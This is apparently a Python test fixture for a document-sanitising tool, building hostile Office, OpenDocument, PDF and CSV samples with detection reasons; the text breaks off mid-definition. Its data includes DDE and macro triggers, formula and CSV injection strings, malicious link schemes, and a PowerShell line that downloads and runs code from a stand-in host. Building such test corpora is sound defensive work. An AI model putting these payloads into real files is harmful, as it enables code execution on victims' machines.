"""List documents that run, open or load something, each with the reason that an editor is told."""

import io
import re
import zipfile
from xml.sax.saxutils import quoteattr

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests.clinic.hostile_files import (
    HTML,
    MAIN_PARTS,
    RELATIONS,
    WORD,
    action,
    field,
    formula,
    inside,
    office,
    open_document,
    open_part,
    outside,
    pdf,
    pdf_with,
    sheet,
    slide,
    zipped,
)

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
RTF = b"{\\rtf1 {\\field{\\*\\fldinst DDEAUTO c:\\\\calc.exe}}}"
ADDRESSES = (
    "file:///c:/windows/system32/calc.exe",
    "\\\\evil\\share\\a.lnk",
    "//evil/share/a.lnk",
    "javascript:alert(1)",
    "JavaScript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,a",
    "ms-msdt:/id PCWDiagnostic",
    "ms-word:ofe|u|https://evil.example/a.docm",
    "search-ms:query=a",
    "mhtml:https://evil.example/a!b",
    "ftp://evil.example/a",
    "smb://evil/a",
    "https:\\\\evil\\a",
    "a.exe",
    "../a.exe",
)
FORMULAS = (
    'WEBSERVICE("https://evil.example/"&A1)',
    '_xlfn.WEBSERVICE ("https://evil.example")',
    'IFERROR(1,_xlfn.IMAGE("https://evil.example/a.png"))',
    "cmd|'/c calc'!A0",
    "A1+'cmd' |'/c echo \"a\" | calc'!'A0'",
    'CALL("Kernel32","WinExec","JCJ","calc",0)',
    'register.id("a","b")',
    'EXEC("calc.exe")',
    'RTD("a.b",,"c")',
    'HYPERLINK("javascript:alert(1)","Book")',
    'HYPERLINK("file:///c:/a.exe")',
    'HYPERLINK(A1,"Book")',
    'HYPERLINK("ht"&"tps://evil.example")',
    "_xll.RunThis(1)",
    "'\\\\evil\\share\\[a.xlsx]Sheet1'!A1",
    "'https://evil.example/[a.xlsx]Sheet1'!A1",
    "'file:///c:/a.ods'#$Sheet1.A1",
    'IMPORTXML("https://evil.example","//a")',
    'STOCKHISTORY("A",1)',
    '_xlws.PY("import os",1)',
    'DDE("soffice","a.ods","A1")',
    'IMPORTCSV("https://evil.example")',
    '_xlfn.IMPORTTEXT("C:\\a",1)',
    "_xlfn.IMAGE (A1)",
    "IMAGE\n( place )",
    "CALL (A1,B1)",
    "INDIRECT(\"'https://evil.example/a.ods'#$A.A1\")",
    'SUM(INDIRECT("\'ht"&"tps:"&A1))',
    'CUBEVALUE("c","[a]")',
    "'//evil/share/[a.xlsx]b'!A1",
    "'C:\\a\\[b.xlsx]c'!A1",
    "[a.xlsx]b!A1",
)
FIELD_CODES = (
    'INCLUDEPICTURE "https://evil.example/a.png" \\d',
    'INCLUDETEXT "\\\\\\\\evil\\\\a.docx"',
    "LINK Excel.Sheet.8 c:\\\\a.xls",
    'DDE "cmd" "/c calc"',
    "ddeauto c:\\\\calc.exe",
    'IMPORT "a.png"',
    'RD "a.docx"',
    "MACROBUTTON Run Click here",
    "GOTOBUTTON a b",
    "AUTOTEXT a",
    "DATABASE \\d a.mdb",
    "FILLIN a",
    'HYPERLINK "file:///c:/a.exe"',
    'HYPERLINK \\l "a" "\\\\\\\\evil\\\\a"',
    'HYPERLINK \\o "https://example.com" "javascript:a()"',
)
# Each: the content of a part that says it is a picture.
DISGUISES = {
    "shortcut": bytes.fromhex("4c0000000114020000000000c000000000000046"),
    "cabinet": b"MSCF\0\0\0\0",
    "archive of 7-Zip": b"7z\xbc\xaf\x27\x1c",
    "archive of RAR": b"Rar!\x1a\x07",
    "disc": b"\0" * 0x8001 + b"CD001",
    "help": b"ITSF\3\0\0\0",
    "part in UTF-32": b"\0\0\xfe\xff" + "<a/>".encode("utf-32-be"),
    "part in EBCDIC": "<?xml version='1.0' encoding='cp037'?><a/>".encode("cp037"),
    "batch": b"@echo off\r\ncalc\r\n",
    "SYLK": b"ID;P\nC;X1;Y1;K1\n",
    "saved page": b"MIME-Version: 1.0\n",
    "font": b"\0\1\0\0\0\x0c",
    "object behind one byte": b"\0" + OLE,
    "Java": b"\xca\xfe\xba\xbe\0\0",
}
DRAWINGS = {
    "style sheet from elsewhere": b"<svg><style>@import url(https://evil.example/a.css);</style></svg>",
    "style sheet from elsewhere, named in front": b"<?xml-stylesheet href='https://evil.example/a.css'?><svg/>",
    "picture in a style sheet": b"<svg><style>rect { fill: url('https://evil.example/a') }</style></svg>",
    "escape in a style sheet": b"<svg><style>@\\69mport 'https://evil.example/a';</style></svg>",
    "fill from elsewhere": b"<svg><rect style='fill:url(https://evil.example/a#b)'/></svg>",
    "filter from elsewhere": b"<svg><g filter='url( //evil/a#b )'/></svg>",
    "cursor from elsewhere": b"<svg cursor='url(\"https://evil.example/a\"), auto'/>",
    "address set later": b"<svg><a><set attributeName='href' to='javascript:a()'/></a></svg>",
    "address that changes": b"<svg><a href='#'><animate attributeName='href' values='javascript:a()'/></a></svg>",
    "motion": b"<svg><animateMotion href='#a'/></svg>",
    "types from elsewhere": b"<!DOCTYPE svg SYSTEM 'https://evil.example/a.dtd'><svg/>",
    "base elsewhere": b"<svg xml:base='https://evil.example/'><use href='#a'/></svg>",
    "picture of HTML": b"<svg><x:img xmlns:x='http://www.w3.org/1999/xhtml' src='a'/></svg>",
    "page that moves on": b"<svg><x:meta xmlns:x='http://www.w3.org/1999/xhtml' http-equiv='refresh'/></svg>",
    "drawing in a drawing": b"<svg><image href='data:image/svg+xml;base64,AAAA'/></svg>",
    "page in a drawing": b"<svg><image href='data:image/png,&lt;svg onload=a()&gt;'/></svg>",
    "HTML in a drawing": b"<svg><foreignObject/></svg>",
    "tag of another kind": b"<svg><discard/></svg>",
    "page": b"<html xmlns='http://www.w3.org/1999/xhtml'/>",
}
RELATION_KINDS = (
    "attachedTemplate",
    "frame",
    "subDocument",
    "oleObject",
    "aFChunk",
    "image",
    "externalLink",
    "externalLinkPath",
    "video",
    "audio",
    "mailMergeSource",
    "slideUpdateUrl",
)


def with_part(kind: str, name: str, content: bytes = b"<a/>", part_type: str = "") -> bytes:
    more_types = f"<Override PartName='/{name}' ContentType='{part_type}'/>" if part_type else ""
    return office(kind, more=[(name, content)], more_types=more_types)


def linked(kind: str, target: str) -> bytes:
    """Return a slide or sheet with a relation in the place where its program looks for it."""
    folder = {"pptx": "ppt/slides/_rels/slide1", "xlsx": "xl/worksheets/_rels/sheet1"}[kind]
    relation = f"<Relationships xmlns='{RELATIONS}'>{target}</Relationships>"
    return office(kind, more=[(f"{folder}.xml.rels", relation.encode())])


def link_annotation(**entries) -> bytes:
    return pdf_with("page", Annots=[Dictionary(Subtype=Name.Link, **entries)])


def updated_pdf(compressed: bool = False, more: bytes = b"", change=None) -> bytes:
    """Return a PDF with a second revision that takes away what `change` puts into its Root."""
    data = pdf(change, object_stream_mode=pikepdf.ObjectStreamMode["generate" if compressed else "disable"])
    with pikepdf.open(io.BytesIO(data)) as document:
        root, pages = document.Root.objgen[0], document.Root.Pages.objgen[0]
        size = int(document.trailer.Size)
    earlier = int(re.findall(rb"startxref\s+(\d+)", data)[-1])
    data += more
    start = len(data)
    data += b"%d 0 obj\n<< /Type /Catalog /Pages %d 0 R >>\nendobj\n" % (root, pages)
    table = len(data)
    trailer = b"/Root %d 0 R /Prev %d" % (root, earlier)
    if compressed:
        rows = b"".join(b"\1" + place.to_bytes(4, "big") + b"\0" for place in (start, table))
        entry = b"<< /Type /XRef /Size %d /W [1 4 1] /Index [%d 1 %d 1] %b" % (size + 1, root, size, trailer)
        data += b"%d 0 obj\n%b /Length %d >>\nstream\n%b\nendstream\nendobj\n" % (size, entry, len(rows), rows)
    else:
        data += b"xref\n%d 1\n%010d 00000 n \ntrailer\n<< /Size %d %b >>\n" % (root, start, size, trailer)
    return data + b"startxref\n%d\n%%%%EOF\n" % table


def add_actions(document: pikepdf.Pdf) -> None:
    document.Root.AA = Dictionary(WC=action("Named", N=Name.NextPage))


def external_stream(key: str = "F") -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        stream = document.make_stream(b"", {f"/{key}": Dictionary(Type=Name.Filespec, FS=Name.URL, F=String("a"))})
        document.pages[0].obj.Contents = stream

    return pdf(change)


PDFS = {
    "thread in a file of a server": link_annotation(A=action("Thread", F=String("\\\\evil\\a.pdf"))),
    "page of another file": pdf_with("page", X=Dictionary(Ref=Dictionary(F=String("a.pdf"), Page=0))),
    "page of another file, without its name": pdf_with("page", X=Dictionary(Ref=Dictionary(Page=0))),
    "stream in another file": external_stream(),
    "file of the web": pdf_with("page", X=Dictionary(FS=Name.URL, V=String("https://evil.example"))),
    "file named in the old way": pdf_with("page", X=Dictionary(DOS=String("a.exe"))),
    "file named in Unicode": pdf_with("page", X=Dictionary(UF=String("a.exe"))),
    "jump to a part": link_annotation(A=action("GoToDp", Dp=Dictionary())),
    "action of tomorrow": link_annotation(A=action("FlyToMoon")),
    "action of tomorrow after another": link_annotation(A=action("GoTo", Next=[action("GoTo"), action("FlyToMoon")])),
    "action of a pressed link": link_annotation(PA=action("FlyToMoon")),
    "menu command": link_annotation(A=action("Named", N=Name.SaveAs)),
    "opens a page, then the web": pdf_with(
        "Root", OpenAction=action("GoTo", D=Array(), Next=action("URI", URI=String("https://evil.example")))
    ),
    "opens a command": pdf_with("Root", OpenAction=action("Named", N=Name.Print)),
    "action with escapes": link_annotation(A=action("L" * 9)).replace(b"/LLLLLLLLL", b"/#53#75bm#69tForm"),
    "action with capital escapes": link_annotation(A=action("L" * 5)).replace(b"/LLLLL", b"/Go#54o#52"),
    "action in an earlier revision": updated_pdf(change=add_actions),
    "action in an earlier compressed revision": updated_pdf(compressed=True, change=add_actions),
    "program that no table lists": updated_pdf(more=b"9 0 obj\n<< /S /L#61unch >>\nendobj\n"),
    "program for the printer": pdf_with("page", X=Dictionary(Type=Name.XObject, Subtype=Name.PS)),
    "sound": link_annotation(A=action("Sound")),
}
ACTIVE_OFFICE = {
    **{f"relation {kind}": office(link=outside(kind, "https://evil.example/a")) for kind in RELATION_KINDS},
    **{f"relation {kind} inside": office(link=inside(kind, "a.xml")) for kind in RELATION_KINDS if kind != "image"},
    **{f"field {code}": office(text=field(code)) for code in FIELD_CODES if not code.startswith("HYPERLINK")},
    "imported text of RTF": office(link=inside("aFChunk", "a.rtf"), more=[("word/a.rtf", RTF)]),
    "imported text of HTML under another name": office(link=inside("aFChunk", "a.xml"), more=[("word/a.xml", b"<a/>")]),
    "imported text": office(text="<w:altChunk/>"),
    "RTF as a picture": office(more=[("word/media/image1.png", RTF)]),
    "page as a picture": office(more=[("word/media/image1.jpg", b"\n" + HTML)]),
    "part in UTF-16 as a picture": office(more=[("word/media/image1.jpg", "<a/>".encode("utf-16"))]),
    "object as a picture": office("pptx", more=[("ppt/media/image1.png", OLE)]),
    "object as data": office("pptx", more=[("ppt/media/image1.bin", OLE)]),
    "object as settings of a printer": office("xlsx", more=[("xl/printerSettings/printerSettings1.bin", OLE)]),
    "object as data of Google": office("pptx", more=[("ppt/metadata", OLE)]),
    "object without a suffix": office(more=[("word/media/image1", OLE)]),
    "object as a font": office(more=[("word/fonts/font1.odttf", OLE)]),
    "archive as a picture": office(more=[("word/media/image1.gif", zipped([("a", b"")]))]),
    **{f"{kind} as a picture": office(more=[("word/media/a.png", data)]) for kind, data in DISGUISES.items()},
    **{
        f"{kind} as a preview": open_document(more=[("ObjectReplacements/Object 1", data)])
        for kind, data in DISGUISES.items()
    },
    **{
        f"{kind} as a {suffix} font": office(more=[(f"word/fonts/a.{suffix}", DISGUISES[kind] + bytes(80))])
        for kind in ("archive of 7-Zip", "cabinet", "shortcut", "batch")
        for suffix in ("ttf", "odttf", "fntdata")
    },
    **{f"drawing with {kind}": office(more=[("word/media/a.svg", data)]) for kind, data in DRAWINGS.items()},
    "drawing in an open document": open_document(more=[("Pictures/a.svg", DRAWINGS["motion"])]),
    "batch as settings of a printer": office(
        "xlsx", more=[("xl/printerSettings/printerSettings1.bin", b"cls\r\ncalc")]
    ),
    "settings of a printer among embedded files": office(more=[("word/embeddings/printersettings.bin", b"\0" * 99)]),
    "page as data of Google": office("pptx", more=[("ppt/metadata", b"\n\x12<script>a()</script>")]),
    "object by a relation of Google": office(
        link="<Relationship Type='http://customschemas.google.com/relationships/oleObject' Target='a.xml'/>"
    ),
    "part with a style sheet": with_part("docx", "word/a.xml", b"<?xml-stylesheet href='a.xsl'?><a/>"),
    "open part with a style sheet": open_document(more=[("Object 1/content.xml", b"<?xml-stylesheet href='a'?><a/>")]),
    "other picture of the web": office(text="<w:imagedata o:althref='https://evil.example/a.png' xmlns:o='o'/>"),
    "picture of a button": open_document(b"<f:image f:image-data='https://evil.example/a.png'/>"),
    "table of colors from elsewhere": open_document(
        more=[
            ("settings.xml", open_part(b"<c:config-item c:name='ColorTableURL'>https://evil.example</c:config-item>"))
        ]
    ),
    "video": office("pptx", more=[("ppt/media/media1.mp4", b"\0\0\0\x18ftyp")]),
    "drawing with a script": office(more=[("word/media/image1.svg", b"<svg><script/></svg>")]),
    "drawing that loads": office(more=[("word/media/image1.svg", b"<svg><image href='https://evil.example'/></svg>")]),
    "drawing with an event": office(more=[("word/media/image1.svg", b"<svg onload='a()'/>")]),
    "video of the web": office(
        text="<w:webVideoPr embeddedHtml='&lt;iframe src=&quot;https://evil.example&quot;&gt;'/>"
    ),
    "mail merge": with_part("docx", "word/settings.xml", b"<a><mailMerge><query>a</query></mailMerge></a>"),
    "macro of a form": office(text="<w:ffData><w:entryMacro w:val='a'/></w:ffData>"),
    "style sheet when saved": with_part("docx", "word/settings.xml", b"<a><saveThroughXslt/></a>"),
    "part of macros under another name": with_part(
        "docx", "word/a.xml", part_type="application/vnd.ms-word.vbaData+xml"
    ),
    "part of HTML": with_part("docx", "word/a.xml", part_type="text/html"),
    "menu with actions": office("xlsx", link=inside("extensibility", "a.xml")),
    "menu as a part": with_part("xlsx", "customUI/customUI14.xml"),
    "add-in": with_part("docx", "word/webextensions/webextension1.xml"),
    "macro sheet under another name": with_part(
        "xlsx", "xl/worksheets/sheet9.xml", part_type="application/vnd.ms-excel.macrosheet+xml"
    ),
    "macro sheet by its relation": linked("xlsx", inside("xlMacrosheet", "sheet9.xml")),
    "query in data of its own": with_part("xlsx", "customXml/item1.xml", b"<DataMashup>AAAA</DataMashup>"),
    "data connection": with_part("xlsx", "xl/connections.xml"),
    "query": with_part("xlsx", "xl/queryTables/queryTable1.xml"),
    "query by its relation": linked("xlsx", inside("queryTable", "a.xml")),
    "link to another workbook": with_part("xlsx", "xl/externalLinks/externalLink1.xml"),
    "name of a macro": sheet("<x:definedName xlm='1'>a</x:definedName>"),
    "button of a macro": sheet("<m:sp macro='[0]!Run'/>", "xl/drawings/drawing1.xml"),
    "button of a macro in old drawings": sheet("<m:FmlaMacro>Run</m:FmlaMacro>", "xl/drawings/vmlDrawing1.vml"),
    "picture of the web in old drawings": sheet("<m:imagedata href='https://evil.example'/>", "xl/drawings/a.vml"),
    "picture of a server in old drawings": sheet("<m:imagedata src='\\\\evil\\a.png'/>", "xl/drawings/a.vml"),
    "object that starts with the slide": slide("<p:cmd type='verb' cmd='0'/>"),
    "disc that starts with the slide": slide("<a:audioCd/>"),
    "internal target on a server": linked("pptx", inside("image", "\\\\evil\\a.png")),
    "internal target of the web": linked("pptx", inside("image", "https://evil.example/a.png")),
    **{
        f"slide that {event} {kind}": slide(f"<a:{event} r:id='' action='ppaction://{kind}'/>")
        for event in ("hlinkClick", "hlinkHover", "hlinkMouseOver")
        for kind in ("program", "macro?name=a", "ole?verb=0", "media", "hlinkfile", "hlinkpres?slideindex=1")
    },
    "field split into pieces": office(text=field("D", "DEA", "UTO c:\\calc.exe")),
    "field made by a field": office(text=field("</w:instrText>" + field("QUOTE 68 68 69") + "<w:instrText>c:\\calc")),
    "field without its marks": office(text="<w:instrText>DDEAUTO a</w:instrText>"),
    "field without its end": office(text="<w:fldChar w:fldCharType='begin'/><w:instrText>DDE a</w:instrText>"),
    "field behind one of another format": office(
        text="<x:instrText xmlns:x='http://purl.oclc.org/ooxml/wordprocessingml/main'>PAGE </x:instrText>"
        "<w:instrText>DDE a</w:instrText>"
    ),
    "field whose mark has two kinds": office(
        text="<w:instrText>PAGE </w:instrText><w:fldChar w:fldCharType='begin' fldCharType='a'/>"
        "<w:instrText>DDE a</w:instrText><w:fldChar w:fldCharType='end'/>"
    ),
    "simple field with two codes": office(text="<w:fldSimple w:instr='DDE a' instr='PAGE'/>"),
    "part of two types": office(
        more=[("word/a.xml", b"<a/>")],
        more_types="<Override PartName='/word/a.xml' ContentType='application/vnd.ms-word.vbaData+xml'/>"
        "<Override PartName='/word/a.xml' ContentType='application/xml'/>",
    ),
    "slide of LibreOffice that does two things": open_document(
        b"<p:event-listener p:action='execute' action='none'/>", kind=b"presentation"
    ),
    "picture of two places": open_document(b"<d:image x:href='https://evil.example/a.png' href='Pictures/a.png'/>"),
    "formula around a tag": sheet("<x:f><x:a/>WEBSERVICE(A1)</x:f>"),
    "formula in a tag": sheet("<x:f><x:a>WEBSERVICE(A1)</x:a></x:f>"),
    "field around a tag": office(text="<w:instrText><w:a/>DDE a</w:instrText>"),
    "simple field": office(text="<w:fldSimple w:instr='INCLUDEPICTURE a'/>"),
    "deleted field": office(text="<w:del><w:delInstrText>DDE a</w:delInstrText></w:del>"),
    "field behind a deleted one": office(
        text="<w:fldChar w:fldCharType='begin'/><w:del><w:instrText>PAGE </w:instrText></w:del>"
        "<w:instrText>DDE a</w:instrText><w:fldChar w:fldCharType='end'/>"
    ),
    "field behind one that Word skips": office(
        text="<x:a xmlns:x='x'><w:instrText>PAGE </w:instrText></x:a><w:instrText>DDEAUTO a</w:instrText>"
    ),
    "field in what Word skips": office(
        text="<w:instrText>PAGE </w:instrText><x:a xmlns:x='x'><w:instrText>DDEAUTO a</w:instrText></x:a>"
    ),
    "field in a footnote": with_part(
        "docx", "word/footnotes.xml", f"<w:a xmlns:w='{WORD}'>{field('LINK a')}</w:a>".encode()
    ),
    "field in an embedded document": office("pptx", more=[("ppt/embeddings/a.docx", office(text=field("DDE a")))]),
    "macro of an open document": open_document(b"<t:execute-macro/>"),
    "script in an open document": open_document(b"<t:script/>"),
    "script of an open document": open_document(b"<o:script/>"),
    "event of a form": open_document(
        b"<f:button><o:event-listeners><s:event-listener/></o:event-listeners></f:button>"
    ),
    "event in the styles": open_document(more=[("styles.xml", open_part(b"<s:event-listener/>"))]),
    "event in an object": open_document(more=[("Object 1/content.xml", open_part(b"<s:event-listener/>"))]),
    "macro in the settings": open_document(
        more=[("settings.xml", open_part(b"<c:config-item>vnd.sun.star.script:a</c:config-item>"))]
    ),
    "macro on a key": open_document(
        more=[("Configurations2/accelerator/current.xml", open_part(b"<c:item x:href='vnd.sun.star.script:a'/>"))]
    ),
    **{
        f"slide of LibreOffice that does {kind}": open_document(
            b"<p:event-listener p:action='%b' x:href='#a'/>" % kind.encode(), kind=b"presentation"
        )
        for kind in ("execute", "verb", "sound")
    },
    **{
        f"tag {tag}": open_document(b"<%b/>" % tag.encode())
        for tag in (
            "d:object-ole d:plugin d:applet d:floating-frame t:section-source o:dde-source t:dde-connection-decl "
            "b:table-source b:cell-range-source b:database-source-sql f:connection-resource t:database-display"
        ).split()
    },
    **{
        f"{tag} from {address}": open_document(f"<{tag} x:href='{address}'/>".encode())
        for tag, address in (
            ("d:image", "https://evil.example/a.png"),
            ("d:fill-image", "//evil/a.png"),
            ("d:object", "../a.ods"),
            ("d:object", "./a/../../b"),
            ("d:object", "/etc/passwd"),
            ("f:form", "https://evil.example"),
            ("d:image", "\\\\evil\\a"),
            ("t:template", "//evil/a.ott"),
            ("o:template", "https://evil.example/a.ott"),
            ("o:auto-reload", "https://evil.example"),
        )
    },
    "form with a database": open_document(b"<f:form f:datasource='a'/>"),
    "object of LibreOffice": open_document(more=[("Object 1", OLE)]),
    "object of LibreOffice as its picture": open_document(more=[("ObjectReplacements/Object 1", OLE)]),
    "object of LibreOffice as a picture": open_document(more=[("Pictures/a.png", OLE)]),
    "dialog of LibreOffice": open_document(more=[("Dialogs/Standard/a.xml", b"<a/>")]),
    "older version in an open document": open_document(more=[("Versions/Version1", b"a")]),
}
LINKS = {
    **{f"link of word to {address}": office(link=outside("hyperlink", address)) for address in ADDRESSES},
    **{f"link of a slide to {address}": linked("pptx", outside("hyperlink", address)) for address in ADDRESSES[:3]},
    **{f"link of a sheet to {address}": linked("xlsx", outside("hyperlink", address)) for address in ADDRESSES[:3]},
    **{
        f"link of LibreOffice to {address}": open_document(f"<t:a x:href='{address}'/>".encode())
        for address in ADDRESSES
    },
    **{f"field {code}": office(text=field(code)) for code in FIELD_CODES if code.startswith("HYPERLINK")},
    **{f"link of a pdf to {address}": link_annotation(A=action("URI", URI=String(address))) for address in ADDRESSES},
    "base of a pdf": pdf_with("Root", URI=Dictionary(Base=String("javascript:a()"))),
    "link of a pdf that is a name": link_annotation(A=action("URI", URI=Name("/javascript:a"))),
    "link of a pdf without an address": link_annotation(A=action("URI")),
    **{
        f"{address} in {place}": document
        for address in ("file:///c:/a.exe", "\\\\evil\\share\\a", "//evil/share/a", "javascript:a()", "ms-msdt:/id a")
        for place, document in {
            "a place in a document": office(text=f"<w:hyperlink w:docLocation='{address}'/>"),
            "any attribute of word": office(text=f"<w:anything w:later='{address}'/>"),
            "any text of word": office(text=f"<w:anything>\n {address}</w:anything>"),
            "any attribute of a sheet": sheet(f"<x:anything later='{address}'/>"),
            "old drawings": sheet(f"<m:Anything>{address}</m:Anything>", "xl/drawings/vmlDrawing1.vml"),
            "any attribute of LibreOffice": open_document(f"<f:button f:target-location='{address}'/>".encode()),
            "any text of LibreOffice": open_document(f"<d:anything>{address}</d:anything>".encode()),
        }.items()
    },
    "place in a sheet with a scheme": sheet("<x:hyperlink location='file:c:/a.exe'/>"),
    "place in a sheet like a path": sheet("<x:hyperlink location='/a.exe'/>"),
    "base of word": with_part("docx", "docProps/app.xml", b"<a><HyperlinkBase>\\\\evil\\a</HyperlinkBase></a>"),
    "link in old drawings": sheet("<m:shape href='file:///a.exe'/>", "xl/drawings/vmlDrawing1.vml"),
    "place in a sheet": sheet("<x:hyperlink location='\\\\evil\\a'/>"),
    "link to two places": open_document(b"<t:a x:href='file:///a.exe' href='https://example.com'/>"),
    "area of a picture": open_document(b"<d:area-rectangle x:href='file:///a.exe'/>"),
    "slide of LibreOffice": open_document(b"<p:event-listener p:action='show' x:href='a.exe'/>", kind=b"presentation"),
}
FORMULA_DOCUMENTS = {
    **{f"formula {text}": formula(text) for text in FORMULAS},
    **{
        f"formula of LibreOffice {text}": open_document(
            b"<b:table-cell b:formula=%b/>" % quoteattr(f"of:={text}").encode(), kind=b"spreadsheet"
        )
        for text in FORMULAS
    },
    "formula in a formula": sheet("<x:formula1><m:f>WEBSERVICE(A1)</m:f></x:formula1>"),
    "formula of a name": sheet("<x:definedName name='a'>RTD(1)</x:definedName>"),
    "formula of a rule": sheet("<x:formula1>WEBSERVICE(A1)</x:formula1>"),
    "formula of a color": sheet("<x:cfvo val='WEBSERVICE(A1)'/>"),
    "formula of a chart": sheet("<x:f>'[file:///c:/a.xlsx]b'!A1</x:f>", "xl/charts/chart1.xml"),
    "formula of an embedded sheet": office(more=[("word/embeddings/a.xlsx", formula("WEBSERVICE(A1)"))]),
    "formula of an object": open_document(more=[("Object 1/content.xml", open_part(b"<b:a b:formula='of:=DDE(1)'/>"))]),
    **{
        f"{tag} in old drawings": sheet(f"<m:{tag}>{text}</m:{tag}>", "xl/drawings/vmlDrawing1.vml")
        for tag, text in (
            ("FmlaLink", "WEBSERVICE(A1)"),
            ("FmlaRange", "'https://evil.example/[a.xlsx]b'!A1"),
            ("FmlaPict", "'\\\\evil\\share\\[a.xlsx]b'!A1"),
            ("FmlaTxbx", "cmd|'/c calc'!A1"),
            ("FmlaGroup", "CALL (A1)"),
        )
    },
    **{
        f"{tag} of LibreOffice in {key}": open_document(f'<b:{tag} b:{key}="{value}"/>'.encode(), kind=b"spreadsheet")
        for tag, key, value in (
            ("condition", "value", "formula-is(WEBSERVICE(A1))"),
            ("condition", "value", "formula-is('file:///c:/a.ods'#$A.A1)"),
            ("color-scale-entry", "value", "WEBSERVICE(A1)"),
            ("formatting-entry", "value", "IMAGE ([.A1])"),
            ("sparkline", "data-range", "'file:///c:/a.ods'#$A.A1"),
            ("sparkline-group", "date-axis-range", "'file:///c:/a.ods'#$A.A1"),
            ("anything", "later", "of:=WEBSERVICE([.A1])"),
        )
    },
    "any attribute of a sheet": sheet("<x:anything later='IF(1,WEBSERVICE(A1))'/>"),
    "any text of a sheet": sheet("<x:anything>RTD(1)</x:anything>"),
    "rule of LibreOffice": open_document(b"<b:content-validation b:condition='WEBSERVICE(1)'/>"),
    "place of LibreOffice": open_document(b"<b:a b:cell-range-address=\"'file:///a.ods'#$A.A1\"/>"),
}
TABLES = {
    "separator of its own": "sep=|\nname|=1+1\n",
    "rare separator of its own": "sep=x\n1x=cmd\n",
    "bar": "name|=1+1",
    "colon": "name:=1+1",
    "caret": "name^=1+1",
    "tilde": "name~=1+1",
    "quotes": 'name,"""=1+1"""',
    "apostrophe": "name,'=1+1",
    "wide sign": "name,＝1+1",
    "wide plus": "name,＋WEBSERVICE(A1)",
    "spaces": "name,   =1+1",
    "spaces that nobody sees": "name,\u200b\ufeff=1+1",
    "space that does not break": "name,\u00a0=1+1",
    "sign": "name,@WEBSERVICE(A1)",
    "minus": 'name,-HYPERLINK("file:///a")',
    "program": "name,+cmd|'/c calc'!A0",
    "program behind anything": "name,a cmd|'/c calc'!A0",
    "quoted program": '"-1,2+WEBSERVICE(A1)"',
    "file on a server": "name,+'\\\\evil\\[a.xlsx]b'!A1",
    "place made of text": "name,+INDIRECT(\"'https://evil.example/a.ods'#$A.A1\")",
    "function behind a space": "name,+IMAGE (A1)",
    "other workbook": "name,+[a.xlsx]b!A1",
    "line of another system": "name\u2028=1+1",
    "old lines": "name\r=1+1\r",
    "direction that nobody sees": "name,\u202e=1+1",
    "hyphen that nobody sees": "name,\u00ad=1+1",
    "small equals sign": "name,\ufe661+1",
}
# Texts that programs take for another format, whatever the name of the file says.
FORMATS = {
    "SYLK": 'ID;PWXL;N;E\nC;Y1;X1;EEXEC("calc.exe")\nE\n',
    "SYLK without anything": "ID;P\nE\n",
    "SYLK that looks like prices": 'ID;Price\nA1;20\nC;X1;Y1;K0;ECALL("a","b")\nE\n',
    "SYLK in small letters": "id;p\r\nnn;nAuto_open;eR1C1\r\n",
    "SYLK of old lines": "ID;PX\rO;E\rNN;NAuto_open;ER101C1\r",
    "SYLK behind a mark and lines": "\ufeff\n \u200b\nID;P\nC;X1;Y1;K1\n",
    "link of SYLK": "ID,Name\nNE;E\\\\evil\\a.xls;S1\n",
    "RTF": "{\\rtf1\\ansi{\\object\\objautlink\\objupdate{\\*\\objdata 0105}}}",
    "RTF behind lines": "\r\n\t{\\rtf {\\field{\\*\\fldinst INCLUDEPICTURE a}}}",
    "RTF in Unicode": "{\\urtf1 a}",
    "saved page": "MIME-Version: 1.0\nContent-Type: multipart/related; boundary=a\n\n--a\n",
    "saved page with other lines first": "From: <Saved by Blink>\nSubject: Prices\ncontent-type:\n multipart/related\n",
    "saved page behind a mark": "\ufeff\nContent-Location: file:///c:/a.htm\n\na",
    "query of the web": "WEB\r\n1\r\nhttps://evil.example/a\r\n",
    "query of the web without a number": "web\nfile:///c:/a\n",
    "query of a database": "XLODBC\n1\nDRIVER=SQL Server\n",
    "shortcut of the shell": "[Shell]\nCommand=2\nIconFile=\\\\evil\\a.ico\n",
    "shortcut of the web": "\n[InternetShortcut]\nURL=file:///c:/a.exe\n",
    "shortcut behind notes": "; a\n# b\n\n[{000214A0-0000-0000-C000-000000000046}]\n;c\nProp3=19,2\n",
    "shortcut of Linux": "[Desktop Entry]\nType=Application\nExec=sh\n",
    "driver": "[Version]\r\nSignature=a\r\n[DefaultInstall]\r\n",
    "registry": "Windows Registry Editor Version 5.00\n\n[HKEY_CURRENT_USER\\a]\n",
    "old registry": "REGEDIT4\n\n[HKEY_CURRENT_USER\\a]\n",
    "remote desktop": "full address:s:evil.example\nalternate shell:s:cmd\n",
    "batch": "@echo off\r\ncalc\r\n",
    "batch behind a remark": "rem Prices\r\nstart calc\r\n",
    "batch with a program": "Prices\ncmd /c calc\n",
    "batch with a folder": 'Prices\n"%~dp0a.exe"\n',
    "PowerShell": "powershell.exe -nop -enc AAAA",
    "PowerShell that fetches": "iex (New-Object Net.WebClient).DownloadString('https://evil.example')",
    "variable of PowerShell": "Prices\n$a = 'calc'\n& $a\n",
    "parameters of PowerShell": "param([string]$a)\n",
    "Visual Basic": 'CreateObject("WScript.Shell").Run "calc"',
    "module of Visual Basic": 'Attribute VB_Name = "a"\nSub AutoOpen()\nShell "calc"\nEnd Sub\n',
    "encoded Visual Basic": "#@~^AAAAAA==a^#~@",
    "Python": "import os\nos.system('calc')\n",
    "JavaScript": "self['al'+'ert'](1)",
    "module of JavaScript": "import('//evil.example/a.js')",
    "PostScript": "%!PS-Adobe-3.0\n(a) (w) file\n",
    "PDF": "\n%PDF-1.7\n1 0 obj\n",
    "form of a PDF": "%FDF-1.2\n",
    "DIF": 'TABLE\n0,1\n"EXCEL"\nVECTORS\n',
    "key": "-----BEGIN RSA PRIVATE KEY-----\nAAAA\n",
    "encoded file": "begin 644 a.exe\n#AAAA\nend\n",
    "calendar": "BEGIN:VCALENDAR\nATTACH:file:///c:/a.exe\n",
    "TeX": "\\input{/etc/passwd}",
    "GIF": "GIF89a=1//",
}

# Each: the content, the code of the reason.
HOSTILE_DOCUMENTS = {
    name: (content.encode() if isinstance(content, str) else content, f"document_{reason}")
    for reason, documents in (
        ("active", PDFS | ACTIVE_OFFICE),
        ("link", LINKS),
